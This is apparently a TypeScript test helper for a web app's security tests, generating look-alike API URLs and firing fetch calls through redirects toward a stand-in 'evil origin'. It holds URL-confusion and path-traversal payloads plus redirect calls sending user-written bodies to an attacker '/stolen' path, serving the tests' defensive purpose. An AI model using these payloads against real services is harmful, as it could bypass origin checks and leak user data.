import type { AppServer } from './app-server.ts';
import type { EvilOrigin } from './evil-origin.ts';

/** Addresses that look like the API's, and are not. */
export function lookAlikes(server: AppServer, evil: EvilOrigin): string[] {
  const evilHost = new URL(evil.origin).host;
  return [
    `${evil.origin}/api/me`,
    `http://localhost:${server.port}@${evilHost}/api/user-info`,
    `http://localhost%3A${server.port}.${evilHost}/api/me`,
    `//${evilHost}/api/scheme-relative`,
    `/\\${evilHost}/api/backslash`,
    `http://evil.localhost:${new URL(evil.origin).port}/api/subdomain`,
    `http://127.0.0.1:${server.port}/api/me`,
    '/apix/me',
    '/API/me',
    '/api%2fme',
    '/%61pi/me',
    '/api/../apix/me',
    '/api/..%2fapix/me',
    '/api/%2e%2e%5capix/me',
    '/api/..;/apix/me',
    '/acme/api/me',
    '//api/me',
  ];
}

/** Runs in a page: calls each address in the ways that a call can be made. */
export async function callEach(urls: readonly string[]): Promise<void> {
  const headers = { 'X-Org-Slug': 'acme' };
  for (const url of urls) {
    for (const init of [{}, { method: 'POST', body: 'x' }, { mode: 'no-cors' as const }, { headers }])
      await fetch(url, init).catch(() => {});
  }
}

/** Runs in a page: calls that the APIs redirect to another origin, with and without a body. @returns the result of each */
export async function callRedirects([target, apis]: readonly [string, readonly string[]]): Promise<string[]> {
  const all: string[] = [];
  for (const api of apis) {
    for (const status of [301, 302, 303, 307, 308]) {
      for (const method of ['GET', 'POST', 'PUT']) {
        for (const redirect of ['follow', 'manual'] as const) {
          const url = `${api}/api/redirect?status=${status}&to=${encodeURIComponent(`${target}/stolen`)}`;
          const body = method === 'GET' ? null : 'what a user wrote';
          const response = await fetch(url, { method, redirect, body }).catch(() => undefined);
          all.push(response?.type ?? 'network error');
        }
      }
    }
  }
  return all;
}
